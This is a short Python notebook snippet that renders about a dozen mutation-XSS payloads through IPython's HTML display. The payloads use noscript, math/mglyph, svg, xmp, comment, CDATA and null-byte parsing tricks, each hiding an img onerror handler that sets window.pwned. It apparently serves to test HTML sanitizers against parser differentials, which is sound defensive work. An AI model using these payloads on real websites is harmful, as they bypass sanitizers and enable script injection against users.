"""HTML that means one thing to who cleans it and another to the browser."""
from IPython.display import HTML, display
image = "<img src=x onerror=\"window.pwned='mutation'\">"
for text in (f"<noscript><p title='</noscript>{image}'></noscript>", f"<math><mtext><table><mglyph><style><!--</style>{image}-->",
             f"<svg></p><style><a id='</style>{image}'>", f"<xmp><p title='</xmp>{image}'>", f"<!--><p>{image}-->", f"<title></title>{image}",
             f"<template>{image}</template>", f"<textarea></textarea>{image}", f"<![CDATA[>{image}]]>", f"<?x >{image}?>", f"\x00<im\x00g src=x onerror=window.pwned=1>"):
    display(HTML(text))
